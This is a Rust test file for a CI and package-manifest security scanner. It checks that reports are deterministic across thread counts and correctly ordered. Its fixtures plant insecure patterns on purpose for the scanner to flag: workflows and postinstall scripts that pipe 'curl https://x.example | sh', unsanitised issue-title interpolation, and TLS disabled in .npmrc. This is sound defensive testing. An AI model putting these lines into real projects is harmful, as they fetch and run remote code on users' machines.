//! The same input gives the same bytes, whatever threads do.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    reason = "a test fails by panicking"
)]

mod support;

use support::{TODAY, World};

const REPOSITORIES: usize = 6;

/// Repositories of many files, with findings of most rules, problems, errors and waivers.
fn world() -> World {
    let world = World::new();
    for repository in 0..REPOSITORIES {
        let name = format!("r{repository}");
        world.app(&name);
        for number in 0..12 {
            let workflow = format!(
                "name: w{number}\non: [push, pull_request_target]\njobs:\n  a{number}:\n    runs-on: self-hosted\n    steps:\n      \
                 - uses: owner/action@v{number}\n      - run: npm install && curl https://x.example/{number} | sh\n      \
                 - run: echo ${{{{ github.event.issue.title }}}}\n  b:\n    uses: owner/r/.github/workflows/x.yml@main\n    \
                 secrets: inherit\n"
            );
            world.write(&format!("{name}/.github/workflows/w{number}.yml"), workflow);
            let manifest = format!(
                "{{\"name\": \"@acme/p{number}\", \"version\": \"1.0.0\", \"scripts\": {{\"postinstall\": \"curl https://x.example | sh\"}}, \
                 \"dependencies\": {{\"z\": \"git+https://git.example/z\", \"a\": \"https://x.example/a.tgz\"}}}}"
            );
            world.write(&format!("{name}/packages/p{number}/package.json"), manifest);
            world.write(
                &format!("{name}/packages/p{number}/.npmrc"),
                "strict-ssl=false\n//registry.npm.example/:_authToken=abc\n",
            );
        }
        world.write(&format!("{name}/.github/workflows/bad1.yml"), "on: [\n");
        world.write(&format!("{name}/.github/workflows/bad2.yml"), "on: {a: 1, a: 2}\n");
        world.write(&format!("{name}/packages/bad/package.json"), "{");
    }
    world.write("r1/palisade.yaml", "profile: strict\nwaivers:\n  - {rule: ci.unpinned_action, at: \"**/w1*.yml\", reason: ours}\n  - {rule: install.tls_off, at: gone, reason: ours}\n");
    world.write("r2/palisade.yaml", "profil: strict\ngate: high\n");
    world.write(
        "own/broken.rego",
        "package own.broken\n\ndeny contains \"x\" if 1 / count(input.pipelines[0].env) > 0\n",
    );
    world.write("own/sound.rego", "package own.sound\n\ndeny contains {\"msg\": name, \"at\": package_.at} if {\n\tsome package_ in input.packages\n\tname := package_.name\n}\n");
    world.write(
        "own/refused.rego",
        "package own.refused\n\ndeny contains \"x\" if time.now_ns() > 0\n",
    );
    world
}

fn names() -> Vec<String> {
    (0..REPOSITORIES).map(|number| format!("r{number}")).collect()
}

/// What a run over all of them prints, with this many threads.
fn bytes(world: &World, format: &str, threads: &str) -> (Option<i32>, Vec<u8>, String) {
    let names = names();
    let mut arguments = vec![
        "check",
        "--policy",
        "own",
        "--today",
        TODAY,
        "--format",
        format,
        "--threads",
        threads,
    ];
    arguments.extend(names.iter().map(String::as_str));
    let run = world.run(&arguments);
    (run.code, run.stdout, run.stderr)
}

#[test]
fn reports_are_the_same_bytes_each_time_and_with_any_number_of_threads() {
    let world = world();
    for format in ["json", "ndjson", "pretty", "concise", "sarif", "github"] {
        let first = bytes(&world, format, "1");
        assert_eq!(first.0, Some(2));
        assert!(first.1.len() > 10_000, "{format}");
        // The forms are made of one report: that it is the same is asked of the first most.
        let others: &[&str] = if format == "json" { &["1", "2", "8"] } else { &["8"] };
        for threads in others {
            let again = bytes(&world, format, threads);
            assert!(first == again, "{format} differs with {threads} threads");
        }
    }
}

#[test]
fn the_order_of_targets_is_that_of_the_arguments() {
    let world = world();
    for threads in ["1", "8"] {
        let report = world.check(&[
            "r3",
            "r0",
            "r5",
            "r1",
            "r3",
            "--threads",
            threads,
            "--rule",
            "ci.unpinned_action",
        ]);
        let targets = report.json["targets"].as_array().unwrap();
        let order: Vec<_> = targets.iter().map(|target| target["name"].as_str().unwrap()).collect();
        assert_eq!(order, ["r3", "r0", "r5", "r1", "r3"]);
        assert_eq!(targets[0], targets[4]);
    }
}

#[test]
fn a_target_is_judged_alike_alone_and_among_others() {
    let world = world();
    let together = world.check(&["r0", "r1", "r4"]);
    for (index, name) in ["r0", "r1", "r4"].into_iter().enumerate() {
        assert_eq!(
            world.check(&[name]).json["targets"][0],
            together.json["targets"][index],
            "{name}"
        );
    }
}

#[test]
fn verdicts_and_findings_are_sorted() {
    let world = world();
    let report = world.check(&["r0", "--policy", "own"]);
    let verdicts = report.json["targets"][0]["verdicts"].as_array().unwrap();
    let rules: Vec<_> = verdicts.iter().map(|verdict| verdict["rule"].as_str().unwrap()).collect();
    assert!(rules.is_sorted() && rules.len() > 40);
    let key = |finding: &serde_json::Value| {
        let location = &finding["location"];
        let number = |name: &str| location["start"][name].as_u64();
        (location["file"].as_str().map(str::to_owned), number("line"), number("column"))
    };
    let findings = report.json["targets"][0]["findings"].as_array().unwrap();
    let keys: Vec<_> = findings.iter().map(key).collect();
    assert!(keys.is_sorted() && keys.len() > 100, "{}", keys.len());
}

#[test]
fn facts_are_the_same_bytes_each_time_and_with_any_number_of_threads() {
    let world = world();
    let facts = |threads: &str| {
        let run = world.run(&["facts", "r0", "--today", TODAY, "--threads", threads]);
        assert_eq!(run.code, Some(0), "{}", run.stderr);
        run.stdout
    };
    let first = facts("1");
    for threads in ["1", "2", "8"] {
        assert!(first == facts(threads), "facts differ with {threads} threads");
    }
    let facts: serde_json::Value = serde_json::from_slice(&first).unwrap();
    let places = |part: &str| -> Vec<String> {
        facts[part]
            .as_array()
            .unwrap()
            .iter()
            .map(|entry| entry["at"].as_str().unwrap().to_owned())
            .collect()
    };
    for part in ["pipelines", "lockfiles", "problems"] {
        assert!(places(part).is_sorted(), "{part}: {:?}", places(part));
    }
    // The root comes first, whatever stands beside it.
    assert_eq!(places("packages")[0], "package.json");
    assert!(places("packages")[1..].is_sorted());
}

#[test]
fn the_folder_that_a_run_starts_in_changes_names_alone() {
    let world = world();
    let inside = world.run_with(&["check", ".", "--format", "json", "--today", TODAY], |command| {
        command.current_dir(world.path("r0"));
    });
    let outside = world.check(&["r0"]);
    let inside: serde_json::Value = serde_json::from_slice(&inside.stdout).unwrap();
    assert_eq!(inside["targets"][0]["name"], ".");
    for part in ["verdicts", "findings", "problems"] {
        assert_eq!(inside["targets"][0][part], outside.json["targets"][0][part]);
    }
}
